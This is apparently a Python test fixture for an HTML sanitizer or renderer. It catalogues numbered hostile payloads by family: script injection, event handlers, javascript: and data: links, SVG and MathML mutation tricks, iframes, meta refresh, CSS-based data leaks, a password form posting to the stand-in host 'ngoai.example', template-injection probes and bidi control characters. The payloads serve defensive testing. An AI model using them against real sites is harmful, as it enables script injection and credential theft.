"""Payloads that a hostile source may put into any field: each tries to run, to send requests, or to leave its element.

`{n}` is the payload's number. Scripts that run call `hit(n)` of the window; outgoing requests name OUTSIDE.
"""

OUTSIDE = "ngoai.example"

_JS = "(parent.hit||hit)({n})"
_URL = f"http://{OUTSIDE}/{{n}}"

PAYLOADS = {
    "script": [
        f"<script>{_JS}</script>",
        f"<script src='{_URL}.js'></script>",
        f"<ScRiPt\x0c>{_JS}</sCrIpT >",
        f"<scr<script>ipt>{_JS}</scr</script>ipt>",
        f"<script/x>{_JS}</script/y>",
        f"<<script>{_JS}//<</script>",
        f"<script type=module>import '{_URL}.js'</script>",
        f"<script>{_JS}<!--",
        f"&lt;script&gt;{_JS}&lt;/script&gt;",
        f"&amp;lt;script&amp;gt;{_JS}&amp;lt;/script&amp;gt;",
    ],
    "event handlers": [
        f"<img src=x onerror={_JS}>",
        f"<img src=x:x onerror\n=\n'{_JS}'>",
        f"<img/src/onerror={_JS}>",
        f"<body onload={_JS}>",
        f"<svg onload={_JS}>",
        f"<video><source onerror={_JS}></video>",
        f"<details open ontoggle={_JS}>x</details>",
        f"<input autofocus onfocus={_JS}>",
        f"<p onmouseover={_JS} onclick={_JS} onpointerenter={_JS}>rê chuột</p>",
        f"<marquee onstart={_JS}>x</marquee>",
        f"<a href=# onclick={_JS} accesskey=x>x</a>",
        f"<p tabindex=1 autofocus onfocus={_JS}>x</p>",
        f"<style>@keyframes a{{}}</style><p style='animation:a 1s' onanimationstart={_JS}>x</p>",
        f"<p title='\"><img src=x onerror={_JS}>'>x</p>",
    ],
    "links": [
        f"<a href='javascript:{_JS}'>bấm</a>",
        f"<a href=' java\tscript:{_JS}'>bấm</a>",
        f"<a href='&#106;avascript&colon;{_JS}'>bấm</a>",
        f"<a href='JaVaScRiPt&#x3A;{_JS}'>bấm</a>",
        f"<a href='\x01javascript:{_JS}'>bấm</a>",
        f"<a href='data:text/html,<script>{_JS}</script>'>bấm</a>",
        "<a href='data:text/html;base64,PHNjcmlwdD5wYXJlbnQuaGl0KDEpPC9zY3JpcHQ+'>bấm</a>",
        "<a href='vbscript:msgbox(1)'>bấm</a>",
        f"<a href='view-source:javascript:{_JS}'>bấm</a>",
        f"<a href='//{OUTSIDE}/%0d%0aX:y' ping='{_URL}' download target=_self>bấm</a>",
        f"<map name=m><area href='javascript:{_JS}' shape=default></map><img usemap=#m src='{_URL}.gif'>",
    ],
    "svg, math and mutation": [
        f"<svg><script>{_JS}</script></svg>",
        f"<svg><a xlink:href='javascript:{_JS}'><text y=20>bấm</text></a></svg>",
        f"<svg><animate onbegin={_JS} attributeName=x dur=1s>",
        f"<svg><use href='data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><script>{_JS}</script></svg>#x'>",
        f"<svg><style><img src=x onerror={_JS}></style></svg>",
        f"<svg></p><style><a id='</style><img src=1 onerror={_JS}>'>",
        f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror={_JS}&gt;'>",
        f"<math><a xlink:href='javascript:{_JS}'>bấm</a></math>",
        f"<noscript><p title='</noscript><img src=x onerror={_JS}>'>",
        f"<form><math><mtext></form><form><mglyph><style></math><img src onerror={_JS}>",
        f"<template><img src=x onerror={_JS}></template>",
        f"<template shadowrootmode=open><img src=x onerror={_JS}></template>",
        f"<select><template><style><!--</style><a rel='--></style></template></select><img src=x onerror={_JS}>'>",
        f"<title></title></textarea></xmp></noembed></plaintext><img src=x onerror={_JS}>",
        f"<![CDATA[<img src=x onerror={_JS}>",
        f"<!--><img src=x onerror={_JS}>-->",
        f"<?xml-stylesheet href='javascript:{_JS}'?><img src=x onerror={_JS} ?>",
    ],
    "documents within the document": [
        f"<iframe src='javascript:{_JS}'></iframe>",
        f"<iframe srcdoc='<script>{_JS}</script>'></iframe>",
        f"<iframe src='{_URL}'></iframe>",
        f"<object data='{_URL}.swf'></object><embed src='{_URL}.swf'>",
        f"<object data='data:text/html,<script>{_JS}</script>'></object>",
        f"<frameset onload={_JS}><frame src='{_URL}'></frameset>",
        f"<portal src='{_URL}'></portal><fencedframe></fencedframe>",
    ],
    "head of the page": [
        f"<meta http-equiv=refresh content='0;url={_URL}'>",
        f"<meta http-equiv=refresh content='0;url=javascript:{_JS}'>",
        f"<base href='{_URL}/' target=_blank>",
        f"<link rel=stylesheet href='{_URL}.css'><link rel=prefetch href='{_URL}'>",
        f"<link rel=preload as=image href='{_URL}'><link rel='shortcut icon' href='{_URL}.ico'>",
        f"<link rel=manifest href='{_URL}'><link rel='dns-prefetch preconnect' href='//{OUTSIDE}'>",
    ],
    "styles": [
        f"<style>@import '{_URL}.css'; * {{ background: url({_URL}.png) }}</style>",
        f"<style>input[value^=a] {{ background: url({_URL}?a) }}</style>",
        f"<p style='background:url({_URL}.png)'>x</p>",
        f"<p style='width:expression({_JS});behavior:url({_URL});-moz-binding:url({_URL})'>x</p>",
        "<p style='position:fixed;inset:0;z-index:9999;background:#fff'>phủ kín trang</p>",
        f"<table background='{_URL}.png'><tr><td background='{_URL}.png' width=9999>x</td></tr></table>",
        "<p class='skip button inbox-row' id='noi-dung' hidden>x</p>",
    ],
    "pictures and media": [
        f"<img src='{_URL}.gif' width=1 height=1>",
        f"<img srcset='{_URL}.gif 1x' sizes=100vw loading=eager>",
        f"<picture><source srcset='{_URL}.webp'><img src='{_URL}.png' lowsrc='{_URL}' dynsrc='{_URL}'></picture>",
        f"<video poster='{_URL}.png' src='{_URL}.mp4' autoplay></video><audio src='{_URL}.mp3' autoplay></audio>",
        f"<input type=image src='{_URL}.png'><image href='{_URL}.png'></image>",
        f"<svg><image href='{_URL}.png'/><feImage href='{_URL}.png'/></svg>",
        f"<body background='{_URL}.png'>",
    ],
    "forms": [
        f"<form action='{_URL}' method=post><input name=password type=password><button>Đăng nhập</button></form>",
        f"<button form=x formaction='javascript:{_JS}'>bấm</button>",
        "</form></form><form action='/admin/' method=post>",
        "<input name=csrfmiddlewaretoken value=x><input type=hidden name=action value=approve>",
        "<textarea>", "<select><option>",
    ],
    "broken layout": [
        "</p></li></ul></ol></div></article></section></main></body></html>",
        "<div><div><ul><li><table><tr><td><b><i><a href='https://so.example.vn/x'>",
        "<!-- chưa đóng", "<plaintext>", "<xmp>", "<a href=\"", "<p title='", "<b" * 60,
        "</title></style></script></textarea>",
        "{{ 7*7 }} {% csrf_token %} ${7*7} <%= 7*7 %> #{7*7}",
        "W" * 900, "ạ" * 900, "<p>" + "https://so.example.vn/" + "a" * 800 + "</p>",
        "<pre>" + "x" * 500 + "\n" * 30 + "</pre>", "<table><tr>" + "<td>ô</td>" * 80 + "</tr></table>",
        "<ul><li>" * 60, "<h1>Tiêu đề giả</h1><h2>Của trang</h2>", "\n" * 200, "<br>" * 300,
    ],
    "directions and controls": [
        "\u202eđảo ngược\u202c tiếp", "\u2066\u2067\u2068 cô lập không đóng", "\u200f\u200e\u061c dấu hướng",
        "<bdo dir=rtl>đảo</bdo><p dir=rtl>phải sang trái</p>", "a\u0300" + "\u0334\u0335\u0489" * 60,
        "\u200b\u00ad\u2060\ufeff vô hình", "ký tự \ufffe\U000e0041 lạ",
    ],
}  # fmt: skip

# One text per payload, numbered consecutively.
NUMBERED = [
    text.replace("{n}", str(number))
    for number, text in enumerate((text for family in PAYLOADS.values() for text in family), start=1)
]
